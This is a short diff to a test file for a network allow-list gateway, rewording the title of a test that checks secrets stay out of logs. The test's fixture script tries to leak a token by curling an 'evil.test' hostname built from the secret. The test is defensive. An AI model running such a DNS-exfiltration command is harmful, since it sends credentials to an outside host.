@@ -122,7 +122,7 @@ describe("NET-2 an allow-list", options, () => {
     expect(internet.dns.asked).not.toContain("other.test");
   });
 
-  test("and keeps secrets out of the log, whoever asks for one as a host", async () => {
+  test("and keeps secrets out of the log, even if one is asked for as a host", async () => {
     const secrets = [{ key: "TOKEN", value: "Sk-live-0123456789abcdef" }];
     const script = "curl -s http://$TOKEN.evil.test/; curl -s https://$TOKEN.evil.test/; exit 1";
     const { gateway } = await run(script, { ...claimed, secrets });
